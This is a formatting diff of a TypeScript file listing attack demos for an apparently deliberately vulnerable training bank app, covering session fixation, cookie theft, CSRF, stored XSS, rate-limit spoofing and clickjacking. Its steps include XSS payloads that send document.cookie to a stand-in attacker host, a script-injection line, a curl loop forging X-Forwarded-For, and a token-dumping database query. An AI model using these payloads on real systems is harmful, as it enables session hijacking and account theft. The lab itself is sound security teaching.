@@ -14,8 +14,10 @@ export type Demo = {
 /** A well-formed session ID (43 URL-safe characters) for the fixation demo to plant. */
 export const PLANTED_ID = "MalloryPlantedThisSessionId_0123456789abcde";
 
-const COPY_COOKIE = "Victim: sign in as alice@vaultline.test, then copy the vaultline.session cookie (DevTools → Application → Cookies): the copy a thief got from a proxy log, a backup or malware.";
-const USE_COPY = "Attacker: in DevTools → Application → Cookies for {bank}, set vaultline.session to the copy and open {bank}/dashboard: Alice's accounts.";
+const COPY_COOKIE =
+  "Victim: sign in as alice@vaultline.test, then copy the vaultline.session cookie (DevTools → Application → Cookies): the copy a thief got from a proxy log, a backup or malware.";
+const USE_COPY =
+  "Attacker: in DevTools → Application → Cookies for {bank}, set vaultline.session to the copy and open {bank}/dashboard: Alice's accounts.";
 
 /** What a leaked copy of the lab's sessions table says about Alice's live sessions (run in the project folder). */
 const READ_SESSIONS_TABLE = `node -e 'const db = require("better-sqlite3")("prisma/lab.db"); console.log(db.prepare("SELECT s.tokenHash FROM Session s JOIN User u ON u.id = s.userId WHERE u.email = ? AND s.endedAt IS NULL").pluck().all("alice@vaultline.test"))'`;
@@ -26,11 +28,13 @@ export const DEMOS: Record<FlawName, Demo> = {
       `Victim: before signing in, set the vaultline.session cookie for {bank} to ${PLANTED_ID} (what a planted link, a sibling subdomain or an XSS achieves), then sign in as alice@vaultline.test.`,
       `Attacker: set the same cookie, ${PLANTED_ID}, in the private window and open {bank}/dashboard.`,
     ],
-    expected: "Flaw on: the attacker is in Alice's accounts with the ID she chose. Defense: sign-in issued a new ID; the planted one opens nothing.",
+    expected:
+      "Flaw on: the attacker is in Alice's accounts with the ID she chose. Defense: sign-in issued a new ID; the planted one opens nothing.",
   },
   "no-server-logout": {
     steps: [COPY_COOKIE, USE_COPY, "Victim: Sign out.", "Attacker: reload the dashboard."],
-    expected: "Flaw on: the copy still opens Alice's accounts after she signed out. Defense: the session ended on the server; the copy lands on the sign-in page.",
+    expected:
+      "Flaw on: the copy still opens Alice's accounts after she signed out. Defense: the session ended on the server; the copy lands on the sign-in page.",
   },
   "readable-cookie": {
     steps: [
@@ -39,7 +43,8 @@ export const DEMOS: Record<FlawName, Demo> = {
       'Victim: send it to the attacker as an XSS payload would (switch no-csp on too, or the CSP blocks the request): new Image().src = "{attacker}/steal?c=" + encodeURIComponent(document.cookie)',
       "Attacker: the inbox below shows the cookie; set it in the private window and open {bank}/dashboard.",
     ],
-    expected: "Flaw on: document.cookie shows vaultline.session, it arrives in the inbox, and the attacker is Alice. Defense: the session cookie is invisible to script; nothing to steal.",
+    expected:
+      "Flaw on: document.cookie shows vaultline.session, it arrives in the inbox, and the attacker is Alice. Defense: the session cookie is invisible to script; nothing to steal.",
   },
   "persistent-cookie": {
     steps: [
@@ -47,14 +52,16 @@ export const DEMOS: Record<FlawName, Demo> = {
       "Victim: close the browser, every window of it, without signing out (a browser set to restore the last session keeps session cookies too: turn that off for the demo).",
       "Attacker (the next person at that computer): start the browser again and open {bank}/dashboard.",
     ],
-    expected: "Flaw on: the cookie outlived the browser and Alice's accounts open (within her idle limit). Defense: a session cookie dies with the browser; the next person meets the sign-in page.",
+    expected:
+      "Flaw on: the cookie outlived the browser and Alice's accounts open (within her idle limit). Defense: a session cookie dies with the browser; the next person meets the sign-in page.",
   },
   "no-cache-control": {
     steps: [
       "Victim (on a shared computer): sign in as alice@vaultline.test, look at the dashboard, then Sign out.",
       "Attacker (the next person at that computer, same window): press Back.",
     ],
-    expected: "Flaw on: Back shows Alice's balances from the browser's cache (Cache-Control: private, max-age=600). Defense: no-store; Back shows no balances.",
+    expected:
+      "Flaw on: Back shows Alice's balances from the browser's cache (Cache-Control: private, max-age=600). Defense: no-store; Back shows no balances.",
   },
   "no-rotation-on-step-up": {
     steps: [
@@ -65,7 +72,8 @@ export const DEMOS: Record<FlawName, Demo> = {
       "Victim: send a transfer and confirm it with the password (alice-demo-pass-1).",
       "Attacker: send 900.00 to Mallory's account VL-1003-0001.",
     ],
-    expected: "Flaw on: the attacker's transfer goes through without the password: her copy shares the victim's fresh step-up. Defense: the step-up issued a new ID; the copy is dead.",
+    expected:
+      "Flaw on: the attacker's transfer goes through without the password: her copy shares the victim's fresh step-up. Defense: the step-up issued a new ID; the copy is dead.",
   },
   "no-reuse-detection": {
     steps: [
@@ -74,7 +82,8 @@ export const DEMOS: Record<FlawName, Demo> = {
       "Trainer: press “Sign-ins past step-up freshness”; Victim: send a transfer and confirm it with the password (the session moves to a new ID).",
       "Attacker: reload the dashboard with the old ID.",
     ],
-    expected: "Flaw on: the rotated-out ID still opens the accounts and nobody is told. Defense: the reuse ends the whole session family (the victim is signed out too) and a security event says why.",
+    expected:
+      "Flaw on: the rotated-out ID still opens the accounts and nobody is told. Defense: the reuse ends the whole session family (the victim is signed out too) and a security event says why.",
   },
   "no-idle-timeout": {
     steps: [
@@ -82,7 +91,8 @@ export const DEMOS: Record<FlawName, Demo> = {
       "Trainer: press “Every session idle past the high tier” below.",
       "Attacker (at the victim's computer): open {bank}/transfers.",
     ],
-    expected: "Flaw on: the transfer page opens; only the browser's warning knew about the inactivity. Defense: signed out “after 15 minutes of inactivity” (the dashboard, a 30-minute page, would still open).",
+    expected:
+      "Flaw on: the transfer page opens; only the browser's warning knew about the inactivity. Defense: signed out “after 15 minutes of inactivity” (the dashboard, a 30-minute page, would still open).",
   },
   "no-absolute-timeout": {
     steps: [
@@ -90,7 +100,8 @@ export const DEMOS: Record<FlawName, Demo> = {
       "Trainer: press “Sign-ins past the absolute lifetime”.",
       "Victim: reload the dashboard.",
     ],
-    expected: "Flaw on: a 13-hour-old session still works. Defense: signed out at the 12-hour absolute lifetime, however busy the session was.",
+    expected:
+      "Flaw on: a 13-hour-old session still works. Defense: signed out at the 12-hour absolute lifetime, however busy the session was.",
   },
   "no-revoke-on-password-change": {
     steps: [
@@ -99,7 +110,8 @@ export const DEMOS: Record<FlawName, Demo> = {
       "Victim: Security → Change password (current alice-demo-pass-1; Reset restores it).",
       "Attacker: reload the dashboard.",
     ],
-    expected: "Flaw on: the attacker's copy keeps working after the victim changed the password. Defense: every other session ended at once; the copy lands on the sign-in page.",
+    expected:
+      "Flaw on: the attacker's copy keeps working after the victim changed the password. Defense: every other session ended at once; the copy lands on the sign-in page.",
   },
   "concurrent-admin": {
     steps: [
@@ -107,7 +119,8 @@ export const DEMOS: Record<FlawName, Demo> = {
       "Victim (the real admin): sign in as admin@vaultline.test and open the Admin panel.",
       "Attacker: reload the admin panel.",
     ],
-    expected: "Flaw on: both admin panels stay open, the stolen one unnoticed. Defense (newest-wins): the attacker's elevated session ends and is told why.",
+    expected:
+      "Flaw on: both admin panels stay open, the stolen one unnoticed. Defense (newest-wins): the attacker's elevated session ends and is told why.",
   },
   "weak-token": {
     steps: [
@@ -115,7 +128,8 @@ export const DEMOS: Record<FlawName, Demo> = {
       "Victim: sign in as alice@vaultline.test, and say roughly when.",
       "Attacker: write alice@vaultline.test in place of your email and the seconds of her sign-in in place of yours, encode it back, and try each candidate second as the cookie on {bank}/dashboard.",
     ],
-    expected: "Flaw on: the ID is the email and the time; a few guesses open Alice's accounts. Defense: 256 random bits; nothing in one ID says anything about another.",
+    expected:
+      "Flaw on: the ID is the email and the time; a few guesses open Alice's accounts. Defense: 256 random bits; nothing in one ID says anything about another.",
   },
   "token-in-url": {
     steps: [
@@ -123,7 +137,8 @@ export const DEMOS: Record<FlawName, Demo> = {
       "Victim: copy the address bar and paste it to the attacker, as into a support chat or a bug report.",
       "Attacker: open the pasted link in the private window, with no cookie of the bank at all.",
     ],
-    expected: "Flaw on: the link alone opens Alice's account. Defense: the ID travels only in the cookie; no link carries it, and an ID in the address opens nothing.",
+    expected:
+      "Flaw on: the link alone opens Alice's account. Defense: the ID travels only in the cookie; no link carries it, and an ID in the address opens nothing.",
   },
   "plaintext-tokens": {
     steps: [
@@ -131,7 +146,8 @@ export const DEMOS: Record<FlawName, Demo> = {
       `Attacker (holding a leaked backup of the database): read Alice's live sessions from the copy, e.g. in a terminal in the project folder: ${READ_SESSIONS_TABLE}`,
       "Attacker: in the private window set vaultline.session for {bank} to a value it printed and open {bank}/dashboard.",
     ],
-    expected: "Flaw on: the table holds the tokens themselves; a row opens Alice's accounts. Defense: the table holds SHA-256 digests (64 hex characters); a digest opens nothing and nothing turns it back into the token.",
+    expected:
+      "Flaw on: the table holds the tokens themselves; a row opens Alice's accounts. Defense: the table holds SHA-256 digests (64 hex characters); a digest opens nothing and nothing turns it back into the token.",
   },
   "token-in-logs": {
     steps: [
@@ -139,7 +155,8 @@ export const DEMOS: Record<FlawName, Demo> = {
       "Attacker (reading the server's logs: an operator, a log service, a foothold on the log host): in the terminal where npm run lab runs, find the newest line “[session] sign-in user=… client=web session=…”.",
       "Attacker: in the private window set vaultline.session for {bank} to the value after session= and open {bank}/dashboard.",
     ],
-    expected: "Flaw on: the log line holds the token; it opens Alice's accounts. Defense: the line names the session by the 8-character fingerprint of its hash (the inspector's), which opens nothing.",
+    expected:
+      "Flaw on: the log line holds the token; it opens Alice's accounts. Defense: the line names the session by the 8-character fingerprint of its hash (the inspector's), which opens nothing.",
   },
   csrf: {
     steps: [
@@ -147,7 +164,8 @@ export const DEMOS: Record<FlawName, Demo> = {
       "Victim: in a new tab, open the attacker's prize page, {attacker}/prize (it submits a forged sign-out as it loads).",
       "Victim: go back to the bank tab and reload.",
     ],
-    expected: "Flaw on: the other site's page signed Alice out (and could keep an idle session alive); a forged transfer still fails on Next.js's own server-action origin check. Defense: a write from another origin is refused with 403 before anything runs, and SameSite=Strict keeps the cookie off it.",
+    expected:
+      "Flaw on: the other site's page signed Alice out (and could keep an idle session alive); a forged transfer still fails on Next.js's own server-action origin check. Defense: a write from another origin is refused with 403 before anything runs, and SameSite=Strict keeps the cookie off it.",
   },
   "stored-xss": {
     steps: [
@@ -155,14 +173,16 @@ export const DEMOS: Record<FlawName, Demo> = {
       "Victim: sign in as alice@vaultline.test: the dashboard's recent activity already renders the memo (and so does the account's history).",
       "Switch no-csp and readable-cookie on too, and send a memo whose markup sends document.cookie to the attacker (an <img>'s handler runs wherever the markup lands; a <script> only in a page's first HTML): <img src=x onerror=\"new Image().src='{attacker}/steal?c='+encodeURIComponent(document.cookie)\">. Watch the inbox.",
     ],
-    expected: "Flaw on: the memo renders as markup (under the CSP, a refresh still carries the page to the attacker; without it and HttpOnly, the cookie arrives in the inbox). Defense: memos are text; the markup shows as typed.",
+    expected:
+      "Flaw on: the memo renders as markup (under the CSP, a refresh still carries the page to the attacker; without it and HttpOnly, the cookie arrives in the inbox). Defense: memos are text; the markup shows as typed.",
   },
   "no-login-throttle": {
     steps: [
       "Attacker: sign in as bob@vaultline.test with five wrong passwords.",
       "Attacker: then with the right one, bob-demo-pass-1 (the tenth guess of a password list).",
     ],
-    expected: "Flaw on: every guess is checked and the right one gets in. Defense: after 5 failures the email is locked for 15 minutes, and even the right password gets the same refusal.",
+    expected:
+      "Flaw on: every guess is checked and the right one gets in. Defense: after 5 failures the email is locked for 15 minutes, and even the right password gets the same refusal.",
   },
   "tier-reopen": {
     steps: [
@@ -170,42 +190,48 @@ export const DEMOS: Record<FlawName, Demo> = {
       "Trainer: press “Every session idle past the high tier”.",
       "Attacker (at the victim's computer): open {bank}/profile (a 60-minute page), then {bank}/security (15 minutes).",
     ],
-    expected: "Flaw on: the profile visit reset the idle clock and the security settings open. Defense: the gap closed the high tier for the rest of the session; /security signs out for inactivity.",
+    expected:
+      "Flaw on: the profile visit reset the idle clock and the security settings open. Defense: the gap closed the high tier for the rest of the session; /security signs out for inactivity.",
   },
   "attempt-race": {
     steps: [
       "Explain: Mallory has a stolen session but not the password, and step-up allows 5 guesses.",
       "Run the attack, which sends 14 wrong guesses at once and then the real password: npx playwright test e2e/attacks/attempt-race.spec.ts --no-deps",
     ],
-    expected: "Flaw on: every concurrent guess is checked before any is counted and the real password is confirmed. Defense: exactly 5 are checked; every other answer is the same refusal.",
+    expected:
+      "Flaw on: every concurrent guess is checked before any is counted and the real password is confirmed. Defense: exactly 5 are checked; every other answer is the same refusal.",
   },
   "open-redirect": {
     steps: [
       "Victim: open the phishing mail's link, the genuine sign-in page: {bank}/signin?next={attacker}/phish",
       "Victim: sign in as alice@vaultline.test, then type the password again where asked.",
     ],
-    expected: "Flaw on: after a genuine sign-in the victim lands on the attacker's look-alike, and the password typed there arrives in the inbox. Defense: the victim lands on the bank's own dashboard.",
+    expected:
+      "Flaw on: after a genuine sign-in the victim lands on the attacker's look-alike, and the password typed there arrives in the inbox. Defense: the victim lands on the bank's own dashboard.",
   },
   "spoofable-ip": {
     steps: [
       "Attacker: 25 failed sign-ins from one machine, each claiming a new address (unknown emails, so only the per-address limit can stop them):",
       `for i in $(seq 25); do curl -s -o /dev/null -w "%{http_code} " -H "X-Forwarded-For: 203.0.113.$i" -H "Content-Type: application/json" -d "{\\"email\\":\\"nobody$i@vaultline.test\\",\\"password\\":\\"guess\\"}" {bank}/api/v1/sessions; done`,
-      "Attacker: then the stolen password: curl -s -H 'Content-Type: application/json' -d '{\"email\":\"bob@vaultline.test\",\"password\":\"bob-demo-pass-1\"}' {bank}/api/v1/sessions",
+      'Attacker: then the stolen password: curl -s -H \'Content-Type: application/json\' -d \'{"email":"bob@vaultline.test","password":"bob-demo-pass-1"}\' {bank}/api/v1/sessions',
     ],
-    expected: "Flaw on: every try counts against a different address: all 401, then 201 and a token. Defense: the address is the socket's: after 20 failures everything is 429, the right password included.",
+    expected:
+      "Flaw on: every try counts against a different address: all 401, then 201 and a token. Defense: the address is the socket's: after 20 failures everything is 429, the right password included.",
   },
   "no-csp": {
     steps: [
       "Victim: sign in as alice@vaultline.test.",
       'Victim: inject a script as an XSS would, in the DevTools console: document.body.append(Object.assign(document.createElement("script"), { src: "{attacker}/hook.js" }))',
     ],
-    expected: "Flaw on: the script loads and reports the page (and, with readable-cookie, the cookie) to the inbox. Defense: the browser refuses the script (a CSP violation in the console); nothing arrives.",
+    expected:
+      "Flaw on: the script loads and reports the page (and, with readable-cookie, the cookie) to the inbox. Defense: the browser refuses the script (a CSP violation in the console); nothing arrives.",
   },
   clickjacking: {
     steps: [
       "Victim: sign in as alice@vaultline.test.",
       "Victim: open the attacker's prize page on the same site but another port: http://localhost:{attackerPort}/frame",
     ],
-    expected: "Flaw on: the signed-in dashboard shows through the decoy and the victim's clicks land on the bank. Defense: the browser refuses to frame the bank.",
+    expected:
+      "Flaw on: the signed-in dashboard shows through the decoy and the victim's clicks land on the bank. Defense: the browser refuses to frame the bank.",
   },
 };
